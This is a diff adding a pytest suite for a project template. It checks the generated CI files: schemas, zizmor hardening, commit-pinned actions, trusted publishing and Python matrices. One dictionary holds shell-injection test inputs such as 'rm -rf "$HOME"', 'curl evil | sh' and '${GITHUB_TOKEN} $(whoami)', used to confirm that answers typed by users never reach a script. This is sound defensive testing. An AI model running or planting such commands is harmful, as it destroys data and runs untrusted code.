@@ -1,0 +1,177 @@
+"""CI configuration of generated projects, checked offline with the tools the users' CI runs."""
+
+from __future__ import annotations
+
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+
+from conftest import DEFAULTS
+from conftest import TEMPLATE
+from conftest import Bake
+
+BIN = Path(sys.executable).parent
+PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*")
+CI_FILES = {".github", ".gitlab-ci.yml", ".travis.yml"}
+# Answers typed by a user, with every character a shell treats specially.
+HOSTILE = {
+    "author_name": "Robert'); rm -rf \"$HOME\" `id` $(id) ${PATH} \\ ; echo",
+    "short_description": "Say \"hi\" && curl evil | sh; # ${GITHUB_TOKEN} $(whoami)",
+}
+
+
+def check(*args: object) -> str:
+    result = subprocess.run([str(a) for a in args], capture_output=True, text=True)
+    assert result.returncode == 0, result.stdout + result.stderr
+    return result.stdout + result.stderr
+
+
+def workflows(project: Path) -> dict[str, dict]:  # type: ignore[type-arg]
+    return {
+        path.name: yaml.safe_load(path.read_text(encoding="utf-8"))
+        for path in sorted((project / ".github/workflows").glob("*.yaml"))
+    }
+
+
+def steps(workflow: dict) -> list[dict]:  # type: ignore[type-arg]
+    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]
+
+
+@pytest.mark.parametrize("ci", DEFAULTS["ci"])
+def test_only_the_chosen_ci_files_exist(bake: Bake, ci: str) -> None:
+    present = {p.name for p in bake(ci=ci).iterdir()} & CI_FILES
+    expected = {"github": {".github"}, "gitlab": {".gitlab-ci.yml"}, "travis": {".travis.yml"}}
+    assert present == expected.get(ci, set())
+
+
+def test_github_files_pass_their_schemas(bake: Bake) -> None:
+    project = bake(ci="github")
+    check(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows",
+          *sorted((project / ".github/workflows").glob("*.yaml")))
+    check(BIN / "check-jsonschema", "--builtin-schema", "vendor.dependabot",
+          project / ".github/dependabot.yml")
+
+
+@pytest.mark.parametrize("answers", [{}, HOSTILE | {"with_views": True, "with_cli": True}],
+                         ids=["defaults", "hostile-text"])
+def test_zizmor_finds_nothing(bake: Bake, answers: dict[str, object]) -> None:
+    project = bake(ci="github", **answers)
+    out = check(BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress",
+                project / ".github")
+    assert "No findings to report" in out
+
+
+def test_actions_are_pinned_to_commits(bake: Bake) -> None:
+    uses = [step["uses"] for wf in workflows(bake(ci="github")).values() for step in steps(wf)
+            if "uses" in step]
+    assert uses
+    text = "\n".join(p.read_text("utf-8") for p in (bake(ci="github") / ".github").rglob("*.y*ml"))
+    for line in re.findall(r"uses: (.*)", text):
+        assert PINNED.fullmatch(line), line
+    assert set(re.findall(r"uses: (.*)", text)) <= set(DEFAULTS["_actions"].values())
+
+
+def test_workflows_are_hardened(bake: Bake) -> None:
+    for name, workflow in workflows(bake(ci="github")).items():
+        assert workflow["permissions"] == {}, name
+        assert "concurrency" in workflow, name
+        for job_name, job in workflow["jobs"].items():
+            assert job.get("permissions"), (name, job_name)
+        for step in steps(workflow):
+            if step.get("uses", "").startswith("actions/checkout@"):
+                assert step["with"]["persist-credentials"] is False
+    tests = workflows(bake(ci="github"))["tests.yaml"]
+    assert tests["concurrency"]["cancel-in-progress"] is True
+
+
+def test_publish_uses_trusted_publishing(bake: Bake) -> None:
+    publish = workflows(bake(ci="github"))["publish.yaml"]
+    assert publish[True]["push"]["tags"] == ["*"]  # YAML 1.1 reads the key `on` as True
+    job = publish["jobs"]["publish"]
+    assert job["permissions"] == {"id-token": "write"}
+    assert job["environment"]["name"] == "publish"
+    text = (bake(ci="github") / ".github/workflows/publish.yaml").read_text("utf-8")
+    assert "secrets." not in text and "password" not in text
+
+
+@pytest.mark.parametrize("python_min", DEFAULTS["python_min"])
+def test_github_matrix_spans_the_supported_pythons(bake: Bake, python_min: str) -> None:
+    job = workflows(bake(ci="github", python_min=python_min))["tests.yaml"]["jobs"]["tests"]
+    rows = job["strategy"]["matrix"]["include"]
+    supported = DEFAULTS["_python_versions"][DEFAULTS["_python_versions"].index(python_min):]
+    cpythons = [row["python"] for row in rows if "name" not in row]
+    assert sorted(cpythons) == supported
+    pypy = [row["python"] for row in rows if row.get("name") == "PyPy"]
+    assert pypy == ([f"pypy-{DEFAULTS['_pypy']}"] if DEFAULTS["_pypy"] in supported else [])
+    assert {"name": "Minimum Versions", "python": python_min, "target": "test-min"} in rows
+    jobs = workflows(bake(ci="github", python_min=python_min))["tests.yaml"]["jobs"]
+    assert {"docs", "lint", "typing"} <= set(jobs)
+
+
+@pytest.mark.parametrize("ci", ["github", "gitlab", "travis"])
+def test_typed_answers_never_reach_a_script(bake: Bake, ci: str) -> None:
+    project = bake(ci=ci, **HOSTILE)
+    texts = [p.read_text("utf-8") for p in project.rglob("*.y*ml") if ".git" not in p.parts[-3:]]
+    config = "\n".join(texts)
+    for value in HOSTILE.values():
+        assert value not in config
+        for word in ("rm -rf", "curl evil", "whoami"):
+            assert word not in config
+
+
+@pytest.mark.parametrize(("ci", "schema", "path"), [
+    ("gitlab", "vendor.gitlab-ci", ".gitlab-ci.yml"),
+    ("travis", "vendor.travis", ".travis.yml"),
+])
+def test_other_ci_files_pass_their_schemas(bake: Bake, ci: str, schema: str, path: str) -> None:
+    project = bake(ci=ci, python_min="3.12")
+    check(BIN / "check-jsonschema", "--builtin-schema", schema, project / path)
+    config = yaml.safe_load((project / path).read_text("utf-8"))
+    if ci == "gitlab":
+        matrix = config["tests"]["parallel"]["matrix"][0]
+        assert matrix["PYTHON"] == DEFAULTS["_python_versions"][1:]
+        assert matrix["TARGET"] == ["test", "test-min"]
+        assert config["docs"]["script"] == ["make docs"]
+    else:
+        assert config["python"] == DEFAULTS["_python_versions"][1:]
+        assert config["env"] == ["TARGET=test", "TARGET=test-min"]
+        assert config["jobs"]["include"][0]["env"] == "TARGET=docs"
+
+
+def test_template_own_workflows_are_hardened() -> None:
+    files = sorted((TEMPLATE / ".github/workflows").glob("*.yaml"))
+    assert files
+    check(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", *files)
+    out = check(BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress",
+                TEMPLATE / ".github")
+    assert "No findings to report" in out
+    text = "\n".join(path.read_text("utf-8") for path in files)
+    assert set(re.findall(r"uses: (.*)", text)) <= set(DEFAULTS["_actions"].values())
+
+
+def test_make_test_min_runs_the_lowest_flask(bake: Bake, tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    shutil.copytree(bake(), project, ignore=shutil.ignore_patterns(".git"))
+    out = check("make", "-C", project, "test-min")
+    assert "Flask 3.0.0, Werkzeug " in out
+    assert " passed" in out
+    pins = (project / ".venv-min/.installed.txt").read_text("utf-8").split()
+    assert pins == ["pytest==8.0", "flask==3.0"]
+
+
+def test_make_test_all_runs_tox_and_skips_missing_pythons(bake: Bake, tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    shutil.copytree(bake(), project, ignore=shutil.ignore_patterns(".git"))
+    out = check("make", "-C", project, "test-all")
+    envs = dict(re.findall(r"^\s+(py3\.\d+(?:-min)?): (OK|SKIP)", out, re.MULTILINE))
+    supported = DEFAULTS["_python_versions"]
+    assert set(envs) == {f"py{v}{s}" for v in supported for s in ("", "-min")}
+    # This interpreter's version is always found; a missing one is skipped, not failed.
+    here = f"{sys.version_info.major}.{sys.version_info.minor}"
+    assert envs[f"py{here}"] == envs[f"py{here}-min"] == "OK"
+    assert "Flask 3.0.0, Werkzeug" in out
